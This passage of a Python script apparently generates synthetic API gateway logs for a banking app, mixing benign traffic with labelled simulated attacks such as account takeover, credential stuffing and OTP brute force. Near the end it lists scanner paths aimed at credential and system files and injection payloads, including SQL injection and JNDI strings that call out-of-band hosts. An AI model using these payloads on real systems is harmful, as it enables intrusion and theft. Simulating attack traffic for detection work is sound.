        for k in range(R.randint(3, 6)): emit(a, t, AUTH, "POST", "/v2/login", 401 if k < 5 else 423, subj=a.subj, user=False); t += think(12)
        emit(a, t, AUTH, "POST", "/v2/recover", 202, subj=a.subj, user=False); t = a.otp(t + think(10)); emit(a, t, AUTH, "POST", "/v2/passcode", 200, user=False); return a.visit(t + 3, login=True)
    TODO[p.i].append((local_time(R.randrange(int(P["days"]))), f))
for p in buggy:                           # retry loop of an old build
    def f(t, a):
        for _ in range(R.randint(60, 260)): emit(a, t, API, "GET", "/v3/notifications", R.choice([401, 401, 200]), query="since=1"); t += 5 + R.random() * .3
        return t
    TODO[p.i].append((local_time(R.randrange(int(P["days"]))), f))
if PROMO_AT:                              # limited cashback drop announced by push
    def f(t, a):
        t = a.open(t) + think(4); t = a.call(t, "GET", "/v3/offers/drop-0615") + think(3)
        for _ in range(R.choice([1, 1, 1, 2, 3])): t = a.call(t, "POST", "/v3/offers/drop-0615/claim", 425 if t < PROMO_AT else (201 if t < PROMO_AT + 500 and R.random() < .8 else 409)) + think(3)
        return t
    for p in R.sample(people, int(NU * .14)):
        t = PROMO_AT - 60 + ex(420)
        if getattr(p, "start", 0) < t: TODO[p.i].append((t, f))
for p in VICTIMS: p.login_each = False; p.lam = max(p.lam, .5)
for p in newphones:                       # old phone until then, new one (perhaps another platform) after
    at = local_time(R.randrange(int(P["days"]))); old = p.app; td = TODO[p.i] + plan(p); run(p, [x for x in td if x[0] < at])
    pl = p.platform if R.random() < .85 else ("ios" if p.platform == "android" else "android")
    p.app = mkapp(p, pl, "genuine"); p.app.accs, p.app.cards = old.accs, old.cards
    run(p, [(at, lambda t, a: a.sync(a.open(a.enroll(t)) + 4))] + [x for x in td if x[0] >= at])
NP = {p.i for p in newphones}
for p in people:
    if p.i not in NP: run(p, TODO[p.i] + plan(p))

# QA testers: office, a few test phones, many accounts, debug builds
QA_IP = isp_ip(HC)
for k in range(3):
    pl = R.choice(["ios", "android"]); dev = uu(); users = [(uid(), phone()) for _ in range(6)]
    a = App("qa-tester", f"qa-phone-{k}", QA_IP, None, R.choice(JA4[pl]), pl, app_key(pl), "7.11.0", att=R.choice(["failed", "missing", "genuine"]), dev=dev).setup()
    for day in range(int(P["days"])):
        for t in sorted(T0 + day * D + (R.uniform(9.5, 17) - TZ) * H for _ in range(R.randint(3, 6))):
            a.user, a.subj = R.choice(users); a.visit(t, login=True, n=R.randint(1, 4))

# ---------------------------------------------------------------- machines and staff
MON = [hosting(), hosting()]
for k, ip in enumerate(MON):
    a = Actor("uptime-monitor", f"monitor-{k}", ip, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)" if k else "Better Stack Better Uptime Bot", JA4["go"][0]); t = T0 + R.random() * 300
    while t < END: emit(a, t, (API, AUTH)[k], "GET", "/healthz" if not k else "/.well-known/jwks.json", 200, dur=.004); t += 300 + R.gauss(0, .4)
syn = App("synthetic-monitor", "synthetic-login", hosting(), "k6/0.53.0 (https://k6.io/)", JA4["go"][0], None, f"{APPN.lower()}-synthetic" if P["api_key"] else None, "7.9.0", uid(), None, "synthetic-01", "none").setup(); syn.ua = "k6/0.53.0 (https://k6.io/)"; syn.platform = None; syn.rel_at = END + D; syn.subj = CC + "00000001"
t = T0 + 77
while t < END:
    emit(syn, t, AUTH, "POST", "/v2/login", 200, subj=syn.subj, user=False); syn.sess = hx(24)
    for j, p_ in enumerate(["/v3/me", "/v3/accounts", f"/v3/accounts/{syn.accs[0]}/transactions"]): emit(syn, t + .4 + j * .3, API, "GET", p_, 200)
    t += 900 + R.gauss(0, .5)
for k, ua in enumerate(["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"]):
    a = Actor("crawler", f"crawler-{k}", [net("66.249.66.%d" % R.randint(1, 250), "US", 15169, False), net("157.55.39.%d" % R.randint(1, 250), "US", 8075, False), net("167.94.138.%d" % R.randint(1, 250), "US", 398324, False)][k], ua, JA4["curl"][0])
    for _ in range(R.randint(6, 22)):
        emit(a, T0 + R.random() * P["days"] * D, R.choice([API, AUTH]), "GET", R.choice(["/robots.txt", "/", "/favicon.ico", "/.well-known/openid-configuration", "/.well-known/assetlinks.json", "/.well-known/apple-app-site-association"]), R.choice([200, 404, 404]))

# open-banking aggregator: many users from one partner's addresses
agg_ips = [hosting()]; agg_ips.append(near(agg_ips[0])); consents = R.sample(people, min(len(people), R.randint(50, 90)))
for p in consents:
    ph = R.random() * 6 * H; a = Actor("open-banking-aggregator", "aggregator-finly", R.choice(agg_ips), "finly-connector/4.2 (+https://finly.example)", JA4["java"][0], None, "ob-finly", None, p.user, hx(24), None, "none")
    t = T0 + ph
    while t < END:
        for j, q in enumerate([f"/ob/v1/accounts/{p.app.accs[0]}", f"/ob/v1/accounts/{p.app.accs[0]}/transactions"]): emit(a, t + j * .4, API, "GET", q, R.choice([200] * 30 + [401, 429]))
        t += 6 * H + R.gauss(0, 60)

MERCH = []
UAS = ["okhttp/4.9.3", "Java-http-client/17.0.9", "GuzzleHttp/7", "axios/1.6.8", "python-requests/2.31.0", "Faraday v2.9.0", "Go-http-client/2.0"]
for k in range(R.randint(5, 8)):
    key = f"mk_{hx(8)}"; ip = R.choice([hosting(), isp_ip(HC)]); ua = R.choice(UAS)
    m = Actor("merchant-payments", f"merchant-{k}", ip, ua, R.choice(JA4["java"] + JA4["node"] + JA4["python"]), None, key); m.rate = R.choice([15, 40, 70, 120]); MERCH.append(m)
    b = Actor("merchant-settlement", f"merchant-{k}", near(ip), R.choice([ua, "curl/8.5.0"]), m.ja4, None, key); at = R.uniform(1, 4)
    for day in range(int(math.ceil(P["days"]))):
        for _ in range(poisson(m.rate * .9)):
            t = local_time(day); st = R.choice([201] * 25 + [402, 402, 422, 409]); emit(m, t, API, "POST", "/m/v1/payments", st)
            if st == 201 and R.random() < .6: emit(m, t + 2 + ex(20), API, "GET", f"/m/v1/payments/pay_{hx(14)}", 200)
            if R.random() < .03: emit(m, t + ex(3 * H), API, "POST", "/m/v1/refunds", R.choice([201, 201, 409]))
        t = T0 + day * D + (at - TZ) % 24 * H + R.gauss(0, 40); d = f"2026-06-{14 + day:02d}"
        emit(b, t, API, "GET", f"/m/v1/settlements/{d}", 200); t += 1
        for pg in range(max(2, int(m.rate * R.uniform(.3, .9)))): emit(b, t, API, "GET", f"/m/v1/settlements/{d}/lines", R.choice([200] * 40 + [503]), query=f"page={pg}", size=50000 + R.randrange(9000)); t += .5 + ex(.5)
        for _ in range(R.randint(0, 8)): emit(b, t, API, "GET", f"/m/v1/refunds/ref_{hx(14)}", 200); t += .4

BO_IP = [isp_ip(HC)]; BO_IP.append(near(BO_IP[0])); BO_VPN = hosting()
CUST = [str(500_000 + R.randrange(150_000)) for _ in range(4000)]
class Staff(Actor):
    def searchcase(s, t, n=1):
        for _ in range(n):
            c = R.choice(CUST)
            if R.random() < .7: emit(s, t, API, "GET", "/bo/v1/cases/next", 200); t += think(20)
            for _ in range(R.choice([1, 1, 2])): emit(s, t, API, "GET", "/bo/v1/customers/search", 200, query="q=x"); t += think(6)
            emit(s, t, API, "GET", f"/bo/v1/customers/{c}", 200); t += .3
            emit(s, t, API, "GET", f"/bo/v1/customers/{c}/transactions", 200, query="limit=50"); t += think(40)
            r = R.random()
            if r < .3: emit(s, t, API, "GET", f"/bo/v1/customers/{c}/devices", 200); t += think(20)
            if r > .8: emit(s, t, API, "POST", f"/bo/v1/customers/{c}/cards/block", R.choice([200, 200, 403])); t += think(10)
            emit(s, t, API, "POST", f"/bo/v1/cases/{R.randrange(70000,90000)}/notes", 201); t += think(60)
        return t
    def signin(s, t):
        s.sess = hx(24); emit(s, t, AUTH, "POST", "/v2/staff/sso/callback", 200, user=False); return t + 2
STAFF = []
for k in range(R.randint(11, 18)):
    ua = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{R.choice([137,138,138,139])}.0.0.0 Safari/537.36"
    s = Staff("kyc-reviewer" if k % 5 == 4 else "support-staff", f"staff-{k:02d}", BO_VPN if R.random() < .15 else R.choice(BO_IP), ua, R.choice(JA4["web"]), "web", "backoffice-web" if P["api_key"] else None, None, f"stf_{k:03d}"); STAFF.append(s)
    late = R.random() < .25; s.shift = (13, 21) if late else (8.3, 17)
    for day in range(int(math.ceil(P["days"]))):
        if R.random() < .12: continue
        t = T0 + day * D + (s.shift[0] + R.random() * .5 - TZ) * H; endt = T0 + day * D + (s.shift[1] - TZ) * H; t = s.signin(t)
        lunch = t + 4 * H + R.random() * H
        while t < endt:
            if lunch < t < lunch + 40 * 60: t += 40 * 60
            if s.kind == "kyc-reviewer":
                emit(s, t, API, "GET", "/bo/v1/kyc/queue", 200, query="status=open"); t += think(5); kk = R.randrange(200000, 300000); emit(s, t, API, "GET", f"/bo/v1/kyc/{kk}", 200); t += .4; emit(s, t, API, "GET", f"/bo/v1/kyc/{kk}/documents", 200); t += think(70); emit(s, t, API, "POST", f"/bo/v1/kyc/{kk}/{R.choice(['approve','approve','reject'])}", 200)
            else: t = s.searchcase(t)
            t += ex(1500 if s.kind == "support-staff" else 1100)

NBEN = len(EV)
# ================================================================ attacks
M = P["attack_mult"]
def N(a, b): return max(5, int(R.randint(a, b) * M * SZ[0]))
SZ = [1.0]; MM = lambda k: max(3, int(k * min(1.2, M * SZ[0] * 1.3)))
INST = Counter()
def iid(kind): INST[kind] += 1; return f"{kind}-{INST[kind]}"
def when(dur=0, early=False):
    if early: return T0 + R.uniform(.15, .9) * D
    hi = max(1.15 * D, P["days"] * D - dur - H)
    return T0 + R.uniform(D, max(D + H, hi))
def pl_(): return "ios" if R.random() < P["ios"] * .5 else "android"
def tool(kind, inst, name, ip=None, caller=None, key=True, user=None, ver=None):
    """a script: its user agent, TLS stack, and what it shows to the gateway"""
    ua, ja = {"python": (R.choice(["python-requests/2.32.3", "python-httpx/0.27.0", "Python/3.12 aiohttp/3.9.5"]), "python"), "go": ("Go-http-client/2.0", "go"), "curl": ("curl/8.7.1", "curl"),
              "okhttp": (app_ua("android", CURV), "go"), "mimic": (app_ua("android", CURV), "android"), "mimic-ios": (app_ua("ios", CURV), "ios"), "browser": ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "go")}[name]
    p = "ios" if name == "mimic-ios" else "android"
    isapp = name in ("okhttp", "mimic", "mimic-ios")
    k = app_key(p) if key else None
    a = App(kind, caller or f"bot-{inst}", ip or hosting(), ua, R.choice(JA4[ja]), p if isapp else None, k, ver or (CURV if isapp else None), user, hx(24) if user else None, None, "missing" if (k or isapp) else "none", inst)
    u, j, q, v = a.ua, a.ja4, a.platform, a.ver; a.platform = q or "android"; a.setup(); a.ua, a.ja4, a.platform, a.ver = u, j, q, v; a.rel_at = END + D; a.slow401 = False
    a.subj = phone(); return a
def farmphone(kind, inst, ip, caller, att="genuine", pl=None):
    pl = pl or pl_()
    a = App(kind, caller, ip, None, R.choice(JA4[pl]), pl, app_key(pl), None, uid(), hx(24), uu().upper() if pl == "ios" else uu(), att, inst).setup(); a.subj = phone(); return a
def real_or_fake_subject(): return R.choice(people).subj if R.random() < .12 else phone()
VI = iter(VICTIMS)

# ---- sign-in attacks
def ato(inst, a, p, t, mode):
    """one account worked by attacker actor a"""
    p.app.victim = True
    a.user, a.subj, a.accs, a.cards, a.sess = p.user, p.subj, p.app.accs, p.app.cards, None
    if mode == "hijack": a.sess, a.dev = p.app.sess, p.app.dev if R.random() < .6 else uu(); a.acc_exp = t + P["access_life"] * R.random()
    else:
        a.user = None; emit(a, t, AUTH, "POST", "/v2/login", 200, subj=p.subj); t += 2 + ex(4)
        emit(a, t, AUTH, "POST", "/v2/otp/send", 202, subj=p.subj); t += 25 + ex(30)
        for _ in range(R.choice([0, 0, 1, 2])): emit(a, t, AUTH, "POST", "/v2/otp/verify", 400, subj=p.subj); t += 10 + ex(10)
        emit(a, t, AUTH, "POST", "/v2/otp/verify", 200, subj=p.subj); t += 1; a.user, a.sess = p.user, hx(24); a.acc_exp = t + P["access_life"]
        emit(a, t, AUTH, "POST", "/v2/devices/enroll", 201); t += 2
    k = .35 if mode == "script" else 1
    t = a.home(t) + think(8 * k); t = a.call(t, "GET", f"/v3/accounts/{p.app.accs[0]}/transactions", query="limit=30") + think(6 * k)
    if R.random() < .5: emit(a, t, API, "PATCH", "/v3/me/settings", 200); t += think(6 * k)
    if R.random() < .6: c = p.app.cards[0]; emit(a, t, AUTH, "POST", "/v2/step-up", R.choice([200, 401])); t += 1; emit(a, t, API, "PATCH", f"/v3/cards/{c}/limits", 200); t += think(5 * k); emit(a, t, API, "GET", f"/v3/cards/{c}/pan", R.choice([200, 200, 403])); t += think(10 * k)
    emit(a, t, API, "POST", "/v3/payees", 201); t += think(5 * k)
    for _ in range(R.randint(1, 4)):
        emit(a, t, API, "POST", "/v3/transfers/quote", 200); t += think(4 * k); emit(a, t, AUTH, "POST", "/v2/step-up", R.choice([200, 200, 401])); t += 1
        st = R.choice([201, 201, 422, 403]); emit(a, t, API, "POST", "/v3/transfers", st); t += 1.5
        if st == 201:
            for _ in range(R.randint(1, 3)): t = a.call(t, "GET", f"/v3/transfers/{uu()}") + 1.6
        t += think(10 * k)
    if R.random() < .4: t = a.home(t + 600 + ex(2000))
    return t
def crew(mode, n, early=False):
    inst = iid("account-takeover"); t = when(1.2 * D, early)
    if mode == "phish": phones = [farmphone("account-takeover", inst, R.choice([mobproxy(), resi(1)]), f"crew-{inst}") for _ in range(2)]
    for j in range(n):
        p = next(VI)
        if mode == "phish": a = R.choice(phones)
        elif mode == "script": a = tool("account-takeover", inst, R.choice(["okhttp", "mimic"]), resi(.9), f"crew-{inst}"); a.dev = uu()
        else:
            a = tool("account-takeover", inst, "mimic" if p.platform == "android" else "mimic-ios", R.choice([resi(.9), hosting()]), f"crew-{inst}"); a.ua = p.app.ua
            if R.random() < .5:
                tk = hx(16); te = t + R.uniform(60, 280); a.att = lambda q, tk=tk, te=te: ("genuine", None, tk) if q < te else ("expired", "expired", tk)
        ato(inst, a, p, t, mode); t += ex(4 * H)
    return inst
def hit(inst0, t, p):
    inst = f"{inst0}-takeover"; a = tool("account-takeover", inst, R.choice(["mimic", "okhttp"]), resi(.95), f"crew-{inst0}"); a.dev = uu()
    if R.random() < .4: a = farmphone("account-takeover", inst, mobproxy(), f"crew-{inst0}")
    ato(inst, a, p, t + R.uniform(.2, 5) * H, "script" if a.att == "missing" else "phish")

def stuffing(v, early=False, kind="credential-stuffing", spray=False):
    inst = iid(kind); hits = 0; seq = int(phone()[len(CC):]) // 1000 * 1000
    if v == "fast": n, gap, t = N(220, 420), R.uniform(.4, 2), when(H, early)
    elif v == "resi": n, gap = N(220, 420), R.uniform(40, 140); t = when(n * gap, early)
    elif v == "slow": n, gap = N(60, 110), R.uniform(700, 1500); t = when(n * gap, early)
    else: n, gap = N(90, 170), R.uniform(40, 120); t = when(n * gap, early)
    base = tool(kind, inst, "python" if v == "fast" else R.choice(["okhttp", "mimic", "mimic-ios"]), key=R.random() < .7); fixed = hosting(); ips = [mobproxy() for _ in range(14)]
    phones = [farmphone(kind, inst, R.choice(ips), f"bot-{inst}", "failed" if v == "slow" else "genuine", "android") for _ in range(6)]
    left = 0
    for k in range(n):
        if v == "fast": a = base; a.ip = fixed if not spray else near(fixed)
        elif v == "resi":
            a = base
            if left <= 0: a.ip = resi(); left = R.choice([1, 1, 2]); a.dev = uu(); a.ua = app_ua("ios" if a.platform == "ios" else "android", CURV)
            left -= 1
        else:
            a = R.choice(phones); a.user = a.sess = None
            if v == "slow": a.ip = R.choice(ips)
            if R.random() < .15: a.dev = uu(); a.tok_exp = 0
            if R.random() < .5: emit(a, t - 3, API, "GET", "/v3/config", 200, query=f"v={a.ver}")
        sub = CC + f"{(seq + k) % 10**8:08d}" if spray and v == "fast" else real_or_fake_subject()
        r = R.random(); st = 401
        if v == "fast" and k > 60 and r < .25: st = 429
        elif r > 1 - (.006 if not spray else .004) and hits < 3: st = 200; hits += 1; p = next(VI); sub = p.subj; hit(inst, t, p)
        elif r > .97: st = 423
        emit(a, t, AUTH, "POST", "/v2/login", st, subj=sub, user=False)
        if R.random() < .04 and v != "fast": emit(a, t + 2, AUTH, "POST", "/v2/login", 401, subj=sub, user=False)
        t += ex(gap)
def otpbrute(v, early=False):
    inst = iid("otp-bruteforce")
    if v == "one":
        sub = next(VI).subj; n = N(140, 260); t = when(2 * H, early); ips = [resi() for _ in range(30)]; a = tool("otp-bruteforce", inst, "go"); a.dev = uu()
        for k in range(n):
            a.ip = R.choice(ips)
            if k % 40 == 0: emit(a, t, AUTH, "POST", "/v2/otp/send", R.choice([202, 202, 429]), subj=sub)
            t += ex(2.5); emit(a, t, AUTH, "POST", "/v2/otp/verify", R.choice([400] * 6 + [429]), subj=sub)
    else:
        n = N(35, 60); gap = R.uniform(600, 1500); t = when(n * gap, early)
        for _ in range(n):
            a = tool("otp-bruteforce", inst, R.choice(["mimic", "okhttp"]), resi()); a.dev = uu(); sub = real_or_fake_subject()
            emit(a, t, AUTH, "POST", "/v2/otp/send", 202, subj=sub)
            for j in range(3): emit(a, t + 4 + j * 3 + R.random(), AUTH, "POST", "/v2/otp/verify", 400, subj=sub)
            t += ex(gap)
def smspump(v, early=False):
    inst = iid("sms-pumping"); pre = R.choice(["+99291", "+22376", "+96477", "+6799", "+88018"])
    n = N(90, 170) if v == "fast" else N(45, 80); gap = R.uniform(8, 25) if v == "fast" else R.uniform(500, 1300); t = when(n * gap, early)
    phones = [farmphone("sms-pumping", inst, isp_ip("VN"), f"bot-{inst}") for _ in range(5)]
    for _ in range(n):
        a = tool("sms-pumping", inst, R.choice(["okhttp", "mimic"]), resi(.3)) if v != "farm" else R.choice(phones); a.dev = uu(); a.user = a.sess = None; sub = pre + str(R.randrange(10**6, 10**7))
        emit(a, t, AUTH, "POST", "/v2/signup/start", 202, subj=sub); emit(a, t + 1 + ex(2), AUTH, "POST", "/v2/otp/send", R.choice([202] * 6 + [429]), subj=sub)
        if R.random() < .2: emit(a, t + 40, AUTH, "POST", "/v2/otp/send", 202, subj=sub)
        t += ex(gap)
# ---- accounts made for fraud
def fakesignup(v, early=False):
    inst = iid("fake-signups"); n = N(22, 38); gap = R.uniform(60, 200) if v == "fast" else R.uniform(1200, 3200); t = when(n * gap, early)
    for _ in range(n):
        a = tool("fake-signups", inst, R.choice(["okhttp", "mimic"]) if v == "slow" else "okhttp", resi(.8) if v == "slow" else None, user=uid()); a.dev = uu(); u, a.user = a.user, None; a.sess = None
        q = t; emit(a, q, AUTH, "POST", "/v2/signup/start", 202, subj=a.subj); q += 1; emit(a, q, AUTH, "POST", "/v2/otp/send", 202, subj=a.subj); q += 15 + ex(15)
        emit(a, q, AUTH, "POST", "/v2/otp/verify", R.choice([200, 200, 200, 400]), subj=a.subj); q += 2; emit(a, q, AUTH, "POST", "/v2/signup/complete", 201, subj=a.subj); q += 1
        a.user, a.sess, a.acc_exp = u, hx(24), q + 300; emit(a, q, AUTH, "POST", "/v2/devices/enroll", 201); q += 1; emit(a, q, API, "POST", "/v3/kyc/documents", R.choice([201, 422])); q += 4; emit(a, q, API, "GET", "/v3/kyc/status", 200)
        if R.random() < .5: emit(a, q + 3, API, "POST", "/v3/coupons/redeem", R.choice([200, 409]))
        t += ex(gap)
def referralfarm(v, early=False):
    inst = iid("referral-farm"); n = N(16, 26); gap = R.uniform(400, 900) if v == "fast" else R.uniform(2500, 5000); t = when(n * gap, early)
    ip = isp_ip(HC); car = R.choice(CGN); phones = [farmphone("referral-farm", inst, ip if v == "fast" else (lambda q, j=j: mobile_ip(car, f"{inst}{j}", q)), f"farm-{inst}") for j in range(8)]
    for _ in range(n):
        a = R.choice(phones); a.user, a.subj, a.sess = uid(), phone(), None
        a.tok_exp = 0; a.dev = uu().upper() if a.platform == "ios" else uu(); a.accs = [accid()]        # app data wiped
        q = a.signup(t); q = a.call(q + think(4), "POST", "/v3/coupons/redeem", R.choice([200] * 5 + [409])) + think(5)
        q = a.call(q, "POST", "/v3/payees", 201) + 3; q = a.call(q, "POST", "/v3/transfers/quote") + 3; q = a.stepup(q); a.call(q, "POST", "/v3/transfers", 201); t += ex(gap)
def cardtest(v, early=False):
    inst = iid("card-testing"); n = N(110, 190) if v == "fast" else N(50, 80); gap = R.uniform(3, 9) if v == "fast" else R.uniform(700, 1500); t = when(n * gap, early)
    accs = [(tool("card-testing", inst, "mimic", resi(), user=uid()) if v == "fast" else farmphone("card-testing", inst, mobproxy(), f"bot-{inst}")) for _ in range(6)]
    for a in accs: a.dev = a.dev or uu()
    for k in range(n):
        a = R.choice(accs); t = a.call(t, "POST", "/v3/topups", R.choice([402] * 7 + [201, 422])) + ex(gap)
        if v == "slow" and R.random() < .3: a.home(t)
# ---- objects and functions
def bola(v, early=False):
    inst = iid("object-walking"); k0 = ACC_BASE + R.randrange(ACC_N - 2000); what = R.choice(["/v3/accounts/{}/transactions", "/v3/accounts/{}", "/v3/statements/{}"]); vuln = R.choice([.03, .15, .92])
    if "statements" in what: k0 *= 12
    st = lambda: 200 if R.random() < vuln else R.choice([403, 403, 404])
    if v == "fast":
        a = tool("object-walking", inst, R.choice(["python", "go"]), user=uid()); a.dev = uu(); t = when(H, early); gap = R.uniform(.3, 1.5)
        for k in range(N(280, 480)): t = a.call(t, "GET", what.format(k0 + k), st()) + ex(gap)
    elif v == "hooked":
        a = farmphone("object-walking", inst, isp_ip(HC), f"person-{inst}"); n = N(80, 140); gap = R.uniform(400, 900); t = when(n * gap, early)
        for k in range(n):
            if R.random() < .08: t = a.visit(t, n=1) + 5
            t = a.call(t, "GET", what.format(k0 + R.randrange(900)), st()) + ex(gap)
    else:
        t0 = when(.7 * D, early)
        for m in range(MM(22)):
            a = tool("object-walking", inst, R.choice(["mimic", "mimic-ios"]), resi(.95), f"bot-{inst}-mule{m}", user=uid()); a.dev = uu(); t = a.home(t0 + R.random() * .7 * D) + think(3)
            for j in range(R.randint(5, 12)): t = a.call(t, "GET", what.format(k0 + R.randrange(5000)), st()) + think(8)
ADMIN = ["/bo/v1/customers/search", "/bo/v1/customers/500123", "/bo/v1/cases/next", "/bo/v1/kyc/queue", "/bo/v1/exports", "/internal/users", "/internal/config", "/v3/admin/users", "/v3/admin/flags", "/v3/me/role", "/m/v1/payments", "/m/v1/settlements/2026-06-15",
         "/v3/users", "/v3/transfers/all", "/v3/accounts/export", "/v1/accounts", "/v2/accounts", "/v3/graphql", "/actuator", "/v3/cards/all", "/v3/limits/override", "/ob/v1/accounts", "/v3/support/agents", "/v3/swagger.json", "/openapi.json", "/v3/debug", "/bo/v1/customers/500123/cards/block", "/v3/coupons", "/v3/coupons/create"]
def bfla(v, early=False):
    inst = iid("function-probing")
    if v == "fast": a = tool("function-probing", inst, R.choice(["go", "python"]), R.choice([hosting(), resi(1)]), user=uid()); n, gap = N(120, 200), R.uniform(.3, 1.5)
    elif v == "failed": a = farmphone("function-probing", inst, isp_ip(HC), f"person-{inst}", "failed", "android"); n, gap = N(60, 100), R.uniform(10, 40)
    else: a = farmphone("function-probing", inst, isp_ip(HC), f"person-{inst}"); n, gap = N(35, 55), R.uniform(1500, 3500)
    t = when(n * gap, early)
    for _ in range(n):
        p = R.choice(ADMIN) if R.random() < .75 else f"/v3/{R.choice(['admin','staff','ops','report','ledger','risk'])}/{R.choice(['list','users','export','config','1','all'])}"
        m = R.choice(["GET", "GET", "GET", "POST", "PUT", "DELETE", "OPTIONS"]); t = a.call(t, m, p, R.choice([403, 403, 404, 404, 404, 405, 401]) if R.random() < .97 else 200) + ex(gap)
        if v == "slow" and R.random() < .3: t = a.visit(t, n=1)
# ---- enumeration and scraping
def contactenum(v, early=False):
    inst = iid("contact-enumeration"); seq = R.randrange(10**7, 9 * 10**7)
    hitst = lambda: 200 if R.random() < .12 else 404
    if v == "fast":
        a = tool("contact-enumeration", inst, R.choice(["python", "okhttp"]), user=uid()); a.dev = uu(); t = when(H, early); gap = R.uniform(.4, 2)
        for k in range(N(260, 440)): p, q = lookup(CC + f"{seq + k:08d}"); t = a.call(t, "GET", p, hitst() if R.random() > .1 or k < 100 else 429, query=q) + ex(gap)
    elif v == "mules":
        t0 = when(.9 * D, early)
        for m in range(MM(26)):
            a = tool("contact-enumeration", inst, "mimic", resi(.85), f"bot-{inst}-mule{m}", user=uid()); a.dev = uu(); t = t0 + R.random() * .9 * D
            if R.random() < .5: t = a.home(t) + 2
            for _ in range(R.randint(4, 12)): p, q = lookup(CC + f"{seq + R.randrange(99999):08d}"); t = a.call(t, "GET", p, hitst(), query=q) + think(5)
    else:
        t0 = when(1 * D, early)
        for m in range(5):
            a = farmphone("contact-enumeration", inst, mobproxy(), f"farm-{inst}"); t = t0
            for _ in range(R.randint(2, 4)):
                t = a.open(t) + 2; t = a.sync(t, R.randint(4, 9)) + 4 * H * (.6 + R.random() * .6)
def couponenum(v, early=False):
    inst = iid("coupon-enumeration"); st = lambda: R.choice([404] * 28 + [409, 200])
    if v == "fast": n, gap = N(200, 330), R.uniform(.5, 2.5); accs = [tool("coupon-enumeration", inst, R.choice(["python", "okhttp"]), user=uid())]
    elif v == "resi": n, gap = N(130, 200), R.uniform(120, 300); accs = [tool("coupon-enumeration", inst, "mimic", resi(), user=uid()) for _ in range(40)]
    else: n, gap = N(60, 90), R.uniform(20, 60); accs = [farmphone("coupon-enumeration", inst, isp_ip(HC), f"person-{inst}")]
    for a in accs: a.dev = a.dev or uu()
    t = when(n * gap, early); viaref = R.random() < .4
    for _ in range(n):
        a = R.choice(accs); t = a.call(t, *(("GET", f"/v3/referrals/{code()}") if viaref else ("POST", "/v3/coupons/redeem")), st()) + ex(gap)
def scrape(v, early=False):
    inst = iid("scraping"); n = N(230, 380); gap = {"resi": R.uniform(15, 90), "fast": R.uniform(.5, 2), "slow": R.uniform(300, 600)}[v]
    if v == "slow": n = N(70, 120)
    t = when(n * gap, early); h = hosting(); a = None; left = 0; tgt = R.choice(["handles", "merchants", "handles"])
    for k in range(n):
        if v != "fast" and left <= 0: a = tool("scraping", inst, R.choice(["okhttp", "mimic", "mimic-ios"]), resi(.6), key=R.random() < .8); left = R.choice([1, 1, 2])
        elif v == "fast" and not a: a = tool("scraping", inst, R.choice(["go", "python", "browser"]), h, key=R.random() < .5)
        left -= 1
        nm = "".join(R.choices("abcdefghijklmnoprstuvw", k=R.randint(4, 9)))
        if tgt == "handles": emit(a, t, API, "GET", f"/v3/handles/{nm}", 200 if R.random() < .35 else 404)
        else: emit(a, t, API, "GET", "/v3/merchants/search", 200, query=f"q=&lat={R.uniform(0,9):.3f}&lon={R.uniform(0,9):.3f}")
        t += ex(gap)
# ---- noise and payloads
SCAN = ["/.env", "/.git/config", "/wp-login.php", "/actuator/env", "/actuator/heapdump", "/api/swagger.json", "/swagger-ui.html", "/v2/api-docs", "/phpinfo.php", "/server-status", "/admin", "/console", "/debug/pprof/", "/metrics", "/.aws/credentials", "/config.json", "/backup.sql", "/graphql", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/.DS_Store", "/jenkins/script", "/api/v1/pods", "/boaform/admin/formLogin", "/_ignition/execute-solution", "/autodiscover/autodiscover.json", "/%24%7Bjndi:ldap://x.oast.fun/a%7D"]
def scanner(v, early=False):
    inst = iid("scanner")
    if v == "nuclei":
        a = Actor("scanner", f"bot-{inst}", hosting(), R.choice(["Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/119.0 Safari/537.36", "Fuzz Faster U Fool v2.1.0"]), JA4["go"][0], instance=inst); t = when(H, early); gap = R.uniform(.05, .6)
        for _ in range(N(160, 300)): emit(a, t, R.choice([API, API, AUTH]), R.choice(["GET"] * 8 + ["POST", "HEAD"]), R.choice(SCAN) if R.random() < .7 else "/" + hx(R.randint(3, 7)), R.choice([404] * 9 + [400, 403, 405])); t += ex(gap)
    elif v == "slow":
        n = N(45, 80); t0 = when(1.2 * D, early)
        for _ in range(n): a = Actor("scanner", f"bot-{inst}", R.choice([hosting(), resi(.2)]), R.choice(["Mozilla/5.0 zgrab/0.x", "Mozilla/5.0", "Go-http-client/1.1", "curl/7.88.1", None]), R.choice(JA4["go"] + JA4["curl"]), instance=inst); emit(a, t0 + R.random() * min(1.5 * D, END - t0), R.choice([API, AUTH]), "GET", R.choice(SCAN), R.choice([404, 404, 400, 403]))
    else:
        a = tool("payload-injection", inst, R.choice(["python", "mimic"]), R.choice([hosting(), resi()]), user=uid()); a.dev = uu(); n = N(70, 130); gap = R.uniform(1.5, 15); t = when(n * gap, early)
        for _ in range(n):
            pay = R.choice(["1%27%20OR%20%271%27%3D%271", "1%20AND%20SLEEP(5)--%20-", "%3Cscript%3Ealert(1)%3C/script%3E", "../../../../etc/passwd", "1%20UNION%20ALL%20SELECT%20NULL%2CNULL--", "%7B%7B7*7%7D%7D", "%24%7Bjndi%3Aldap%3A//a.oast.pro/x%7D", "%00"])
            m = R.random()
            if m < .6: t = a.call(t, "GET", R.choice(["/v3/merchants/search", f"/v3/accounts/{a.accs[0]}/transactions", "/v3/statements"]), R.choice([200, 400, 400, 422, 500]), query=f"q={pay}")
